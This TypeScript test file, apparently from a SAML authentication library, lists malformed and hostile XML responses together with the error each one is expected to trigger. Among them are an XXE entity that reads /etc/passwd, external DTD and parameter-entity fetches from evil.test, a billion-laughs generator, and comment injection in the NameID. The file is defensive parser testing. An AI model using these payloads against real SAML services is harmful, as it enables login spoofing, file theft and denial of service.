/** Messages that are no XML, or XML of a kind that has no place here, or no message at all. */
import { deflateRawSync } from 'node:zlib';
import { toForm } from '../saml-messages.ts';
import { replaced, type SamlCase, type SamlStage, writeForm, writeResponse } from './stage.ts';

const malformed = 'saml_xml_malformed';
const forbidden = 'saml_xml_forbidden';

const bomb = (levels: number): string => {
  const entities = Array.from({ length: levels }, (_, level) =>
    level === 0 ? '<!ENTITY e0 "lol">' : `<!ENTITY e${level} "${`&e${level - 1};`.repeat(10)}">`,
  );
  return `<!DOCTYPE samlp:Response [${entities.join('')}]>`;
};

/** What is put where. */
type Swap = readonly [name: string, fault: string, from: string | RegExp, to: string];

const swaps: readonly Swap[] = [
  [
    'a comment in the NameID',
    forbidden,
    'alice@corp-of-tests.com<',
    'alice@corp-of-tests.com<!-- -->.evil.test<',
  ],
  ['a comment before the NameID', forbidden, 'alice@corp', '<!---->alice@corp'],
  ['a comment between elements', forbidden, '<samlp:Status>', '<!-- x --><samlp:Status>'],
  ['a comment before everything', forbidden, /^/, '<!-- x -->'],
  ['a comment after everything', forbidden, /$/, '<!-- x -->'],
  ['a comment in the signature', forbidden, '<ds:DigestValue>', '<ds:DigestValue><!---->'],
  ['a comment in the issuer', forbidden, 'https://idp', 'https://<!-- -->idp'],
  ['a comment without an end', forbidden, '<samlp:Status>', '<!-- <samlp:Status>'],
  ['CDATA in the NameID', forbidden, 'alice@corp', '<![CDATA[alice@corp]]>'],
  ['CDATA between elements', forbidden, '<samlp:Status>', '<![CDATA[ ]]><samlp:Status>'],
  ['a processing instruction before everything', forbidden, /^/, '<?xml-stylesheet href="x"?>'],
  ['a processing instruction in the NameID', forbidden, 'alice@corp', 'alice<?x?>@corp'],
  ['a processing instruction after everything', forbidden, /$/, '<?x?>'],
  [
    'a second declaration of XML',
    forbidden,
    '<samlp:Status>',
    '<?xml version="1.0"?><samlp:Status>',
  ],
  ['white space before the declaration of XML', forbidden, /^/, ' <?xml version="1.0"?>'],
  ['a document type', forbidden, /^/, '<!DOCTYPE samlp:Response>'],
  ['a document type in small letters', forbidden, /^/, '<!doctype x>'],
  [
    'a document type of another place',
    forbidden,
    /^/,
    '<!DOCTYPE x SYSTEM "https://evil.test/x.dtd">',
  ],
  ['an entity of a file', forbidden, /^/, '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'],
  [
    'an entity of the parameter kind',
    forbidden,
    /^/,
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.test/p">%p;]>',
  ],
  ['a billion laughs', forbidden, /^/, bomb(10)],
  [
    'an attribute by default',
    forbidden,
    /^/,
    '<!DOCTYPE x [<!ATTLIST samlp:Response ID CDATA "_x">]>',
  ],
  ['an entity of its own', forbidden, 'alice@corp', '&f;'],
  ['an entity of HTML', forbidden, 'alice@corp', 'alice&nbsp;@corp'],
  ['an ampersand alone', malformed, 'alice@corp', 'alice & @corp'],
  ['an ampersand before a number', malformed, 'alice@corp', '&#;alice@corp'],
  ['a reference to NUL', malformed, 'alice@corp', 'alice&#0;@corp'],
  ['a reference to a control character', malformed, 'alice@corp', 'alice&#x1;@corp'],
  ['a reference to half a character', malformed, 'alice@corp', 'alice&#xD800;@corp'],
  ['a reference beyond Unicode', malformed, 'alice@corp', 'alice&#x110000;@corp'],
  ['a reference to nothing', malformed, 'alice@corp', 'alice&#xFFFF;@corp'],
  ['NUL', malformed, 'alice@corp', 'alice\0@corp'],
  ['NUL in a tag', malformed, '<samlp:Status>', '<samlp:Sta\0tus>'],
  ['a control character', malformed, 'alice@corp', 'alice\u0008@corp'],
  ['an attribute twice', malformed, '<saml:NameID ', '<saml:NameID Format="x" '],
  [
    'an attribute of two prefixes twice',
    malformed,
    '<samlp:Status>',
    '<samlp:Status xmlns:a="urn:x" xmlns:b="urn:x" a:x="1" b:x="2">',
  ],
  ['a namespace twice', malformed, '<samlp:Response ', '<samlp:Response xmlns:samlp="urn:x" '],
  ['a tag without its end', malformed, '</samlp:Response>', ''],
  ['a tag that ends another', malformed, '</samlp:Status>', '</samlp:Stat>'],
  ['a tag in another', malformed, '<samlp:Status>', '<samlp:Status <x>'],
  ['two roots', malformed, /$/, '<x></x>'],
  ['text before the root', malformed, /^/, 'x'],
  ['text after the root', malformed, /$/, 'x'],
  ['a prefix that nobody declared', malformed, '<samlp:Status>', '<x:y></x:y><samlp:Status>'],
  [
    'an attribute of a prefix that nobody declared',
    malformed,
    '<samlp:Status>',
    '<samlp:Status x:y="1">',
  ],
  ['a prefix without a namespace', malformed, '<samlp:Status>', '<samlp:Status xmlns:x="">'],
  [
    'the prefix xml for something else',
    malformed,
    '<samlp:Status>',
    '<samlp:Status xmlns:xml="urn:x">',
  ],
  [
    'the prefix xmlns for something else',
    malformed,
    '<samlp:Status>',
    '<samlp:Status xmlns:xmlns="urn:x">',
  ],
  [
    'another prefix for the namespace of xml',
    malformed,
    '<samlp:Status>',
    '<samlp:Status xmlns:x="http://www.w3.org/XML/1998/namespace">',
  ],
  ['a value without quotation marks', malformed, '<samlp:Status>', '<samlp:Status x=1>'],
  ['an attribute without a value', malformed, '<samlp:Status>', '<samlp:Status x>'],
  [
    'attributes without space between them',
    malformed,
    '<samlp:Status>',
    '<samlp:Status x="1"y="2">',
  ],
  ['a tag in a value', malformed, '<samlp:Status>', '<samlp:Status x="<y>">'],
  [
    'an element of three names',
    malformed,
    '<samlp:Status>',
    '<samlp:a:b></samlp:a:b><samlp:Status>',
  ],
  ['the end of a CDATA section', malformed, 'alice@corp', 'alice]]>@corp'],
  [
    'a name with a letter that looks like another',
    malformed,
    /samlp:Status>/g,
    'samlp:St\u0430tus>',
  ],
  [
    'depth of 33',
    'saml_structure',
    '<samlp:Status>',
    `${'<x>'.repeat(32)}${'</x>'.repeat(32)}<samlp:Status>`,
  ],
  ['depth of 10,000', 'saml_structure', '<samlp:Status>', '<x>'.repeat(10_000)],
];

export function documentCases(stage: SamlStage): SamlCase[] {
  const good = writeResponse(stage);
  const form = toForm(good);
  const bytes = (name: string, fault: string, content: Buffer): SamlCase => ({
    name,
    fault,
    form: content.toString('base64'),
  });
  const declared = (declaration: string) => toForm(declaration + good);
  return [
    ...swaps.map(([name, fault, from, to]) => ({
      name,
      fault,
      form: writeForm(stage, { atLast: (xml) => replaced(xml, from, to) }),
    })),
    { name: 'nothing', fault: 'saml_response_missing', form: '' },
    { name: 'white space', fault: 'saml_not_base64', form: ' \n ' },
    { name: 'XML itself', fault: 'saml_not_base64', form: good },
    {
      name: 'base64 for addresses',
      fault: 'saml_not_base64',
      form: `${form.slice(0, 40)}-_${form.slice(42)}`,
    },
    {
      name: 'base64 that was escaped',
      fault: 'saml_not_base64',
      form: encodeURIComponent(`${form}==`),
    },
    {
      name: 'base64 that was cut off',
      fault: 'saml_not_base64',
      form: form.replace(/=*$/, '').slice(0, 401),
    },
    { name: 'base64 with an end in the middle', fault: 'saml_not_base64', form: `AA==${form}` },
    { name: 'base64 with NUL', fault: 'saml_not_base64', form: `${form}\0` },
    { name: 'half of the message', fault: malformed, form: toForm(good.slice(0, 500)) },
    { name: 'a message twice', fault: malformed, form: toForm(good + good) },
    bytes('a message that was deflated', malformed, deflateRawSync(good)),
    bytes(
      'bytes that are no UTF-8',
      malformed,
      Buffer.from(good.replace('Alice', 'Al\u00efce'), 'latin1'),
    ),
    bytes('UTF-16', malformed, Buffer.from(good, 'utf16le')),
    bytes(
      'UTF-16 with its mark',
      malformed,
      Buffer.concat([Buffer.of(0xff, 0xfe), Buffer.from(good, 'utf16le')]),
    ),
    bytes(
      'UTF-8 of too many bytes',
      malformed,
      Buffer.concat([
        Buffer.from(good.slice(0, 30)),
        Buffer.of(0xc0, 0xbc),
        Buffer.from(good.slice(30)),
      ]),
    ),
    {
      name: 'another encoding',
      fault: forbidden,
      form: declared('<?xml version="1.0" encoding="ISO-8859-1"?>'),
    },
    { name: 'UTF-7', fault: forbidden, form: declared('<?xml version="1.0" encoding="UTF-7"?>') },
    { name: 'XML 1.1', fault: forbidden, form: declared('<?xml version="1.1"?>') },
    { name: 'JSON', fault: malformed, form: toForm('{"user":"alice"}') },
    { name: 'HTML', fault: forbidden, form: toForm('<!DOCTYPE html><html></html>') },
    {
      name: 'more than 256 KiB',
      fault: 'saml_too_large',
      form: toForm(good.replace('<samlp:Status>', `<samlp:Status>${' '.repeat(262_144)}`)),
    },
    { name: 'more than 256 KiB of base64', fault: 'saml_too_large', form: 'A'.repeat(400_001) },
    {
      name: 'an attribute of 200,000 characters',
      fault: 'saml_destination',
      form: writeForm(stage, { parts: { destination: `${stage.acsUrl}${'a'.repeat(200_000)}` } }),
    },
  ];
}
